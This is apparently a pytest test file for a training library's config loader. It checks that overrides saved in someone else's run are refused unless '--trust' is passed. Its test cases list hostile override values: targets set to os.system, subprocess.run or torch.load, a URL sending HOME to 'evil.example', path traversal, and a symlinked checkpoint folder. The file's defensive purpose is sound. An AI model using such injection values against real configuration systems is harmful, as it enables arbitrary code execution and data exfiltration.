from __future__ import annotations

import shutil
from collections.abc import Sequence
from pathlib import Path

import pytest
import yaml

from dtrain.config.errors import ConfigError
from dtrain.config.run import Run, recompose
from dtrain.config.trust import is_known, is_marked, mark
from dtrain.tracking.run_dir import save_run
from tests.config.command_lines import compose
from tests.refusals import refused


def downloaded(folder: Path, *overrides: str, config_dirs: Sequence[str] = ()) -> str:
    """Writes the saved command line of a run that this user did not start; returns the argument that names it."""
    folder.mkdir(parents=True, exist_ok=True)
    content = {"overrides": ["experiment=digits", *overrides], "config_dirs": list(config_dirs)}
    (folder / "overrides.yaml").write_text(yaml.safe_dump(content))
    return f"run.dir={folder}"


@pytest.mark.parametrize(
    ("override", "key", "got"),
    [
        ("data.prepare={_target_:torch.load,f:x.pt,weights_only:false}", "data.prepare._target_", "torch.load"),
        ("data.prepare._target_=torch.load", "data.prepare._target_", "torch.load"),
        ("+train.hooks=[{_target_:subprocess.run,args:[ls]}]", "train.hooks[0]._target_", "subprocess.run"),
        ("task={_target_:dtrain.deployment.artefact.load,folder:x}", "task._target_", "artefact.load"),
        ("model._target_=dtrain.models.mlp.torch.load", "model._target_", "dtrain.models.mlp.torch.load"),
        ("+model.a={_target_:torch.nn.modules.module.torch.hub.load}", "model.a._target_", "torch.hub.load"),
        ("task._target_=${vars.x}", "task._target_", "${vars.x}"),
        ("vars={x:{_target_:os.system}}", "vars.x._target_", "os.system"),
        ("data.prepare=${oc.decode:'{_target_: os.system}'}", "data.prepare", "oc.decode"),
        ("data.eval='https://evil.example/${oc.env:HOME}/x.tar'", "data.eval", "oc.env"),
        ("data.eval='https://evil.example/${${vars.x}:HOME}/x.tar'", "data.eval", "HOME"),
        ("+hydra.callbacks.x._target_=subprocess.run", "hydra.callbacks", "subprocess.run"),
        ("hydra/launcher=basic", "hydra/launcher", "basic"),
        ("task={_target_:dtrain.data.digits.prepare,directory:/x}", "task._target_", "dtrain.data.digits.prepare"),
        ("data.fields.png.decoder=os.system", "data.fields.png.decoder", "os.system"),
        ("vars={f:{name:image,decoder:os.system}}", "vars.f.decoder", "os.system"),
        ("data={cache:{dir:/tmp/evil}}", "data", "/tmp/evil"),
        ("data@vars={cache:{dir:/tmp/evil}}", "data@vars", "/tmp/evil"),
        ("+data.prepare.directory=/tmp/evil", "data.prepare", "/tmp/evil"),
        ("data.prepare=${vars.x}", "data.prepare", "${vars.x}"),
        ("vars={x:{prepare:{_args_:[/tmp/evil]}}}", "data.prepare", "/tmp/evil"),
        ("task=../../../../tmp/evil", "task", "../../../../tmp/evil"),
        ("task/../../evil=x", "task/../../evil", "x"),
        ("+task@data.prepare=[classification,/tmp/evil]", "task", "/tmp/evil"),
        ("+a.b@data.prepare=/tmp/evil", "a.b", "/tmp/evil"),
        ("run.seed=1,2", "run.seed", "1,2"),
        ("--config-dir=/tmp/evil", "--config-dir", "/tmp/evil"),
    ],
)
def test_a_run_of_somebody_else_cannot_name_other_code(tmp_path: Path, override: str, key: str, got: str) -> None:
    argument = downloaded(tmp_path, override)
    with refused(ConfigError, key, got, "--trust", tmp_path):
        recompose([argument])
    assert override in recompose([argument, "--trust"])
    assert "--trust" not in recompose([argument, "--trust"])


def test_a_run_of_somebody_else_cannot_bring_its_own_presets(tmp_path: Path) -> None:
    argument = downloaded(tmp_path, config_dirs=["/tmp/evil"])
    with refused(ConfigError, "/tmp/evil", remedy="--trust"):
        recompose([argument])
    assert "/tmp/evil" in recompose([argument, "--trust"])


def test_a_run_of_somebody_else_cannot_lead_writes_to_files_of_this_user(tmp_path: Path) -> None:
    argument = downloaded(tmp_path / "run")
    (tmp_path / "run" / "checkpoints").symlink_to(tmp_path / "mine")
    with refused(ConfigError, "checkpoints", tmp_path / "mine", "--trust"):
        recompose([argument])
    assert recompose([argument, "--trust"])


def test_a_key_that_is_typed_replaces_the_refused_one(tmp_path: Path) -> None:
    argument = downloaded(tmp_path, "task._target_=os.system")
    assert "task._target_=my.Task" in recompose([argument, "task._target_=my.Task"])


def test_a_run_of_somebody_else_neither_writes_nor_runs_anything(tmp_path: Path) -> None:
    harmless = [
        "optimizer.lr=0.5",
        "vars={lr:1}",
        "train.max_steps=5",
        "data.eval='../x-{00..09}.tar'",
        "data.prepare=null",
        "precision=bf16",
    ]
    dropped = ["export.out=/home/me", "launch=slurm", "launch.setup=[rm]", "tracker=wandb", "data.cache.dir=/home/me"]
    composed = recompose([downloaded(tmp_path, *harmless, *dropped)])
    assert set(harmless) <= {*composed}
    assert not {*dropped} & {*composed}


def test_presets_are_composed_without_trust(tmp_path: Path) -> None:
    presets = ["experiment=cifar10", "model=vit", "optimizer=muon", "data=cifar10"]
    for preset in presets:
        assert preset in recompose([downloaded(tmp_path, preset)])


def test_a_run_that_this_user_started_is_trusted_until_its_command_line_changes(tmp_path: Path) -> None:
    run = Run.of(compose("experiment=digits", f"run.dir={tmp_path / 'mine'}", "+train.hooks=[{_target_:my.Hook}]"))
    save_run(run)
    argument = f"run.dir={tmp_path / 'mine'}"
    assert "+train.hooks=[{_target_:my.Hook}]" in recompose([argument])
    shutil.move(tmp_path / "mine", tmp_path / "moved")
    assert recompose([f"run.dir={tmp_path / 'moved'}"])
    path = tmp_path / "moved" / "overrides.yaml"
    path.write_text(path.read_text().replace("my.Hook", "os.system"))
    with refused(ConfigError, "train.hooks[0]._target_", "os.system", "--trust"):
        recompose([f"run.dir={tmp_path / 'moved'}"])


def test_known_targets() -> None:
    known = ["torch.nn.Linear", "torch.optim.SGD", "dtrain.models.ResNet9", "dtrain.data.digits.arrays"]
    known += ["dtrain.data.color_jitter.ColorJitter", "dtrain.tasks.Classification"]
    assert [target for target in known if not is_known(target)] == []
    other = ["torch.load", "torch.nn.Module.load_state_dict", "torch.nn.modules.torch.load", "dtrain.export.main"]
    other += ["torch.nn.modules.module.OrderedDict"]  # a class, but of another package
    other += ["dtrain.data.digits.prepare"]
    assert [target for target in other if is_known(target)] == []


def test_marks_need_a_cache_that_can_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = tmp_path / "overrides.yaml"
    file.write_text("{}")
    mark(file.read_bytes(), "started")
    assert is_marked(file, "started")
    assert not is_marked(file, "other")
    (tmp_path / "cache").write_text("a file")
    monkeypatch.setenv("DTRAIN_CACHE", str(tmp_path / "cache"))
    mark(file.read_bytes(), "started")
    assert not is_marked(file, "started")
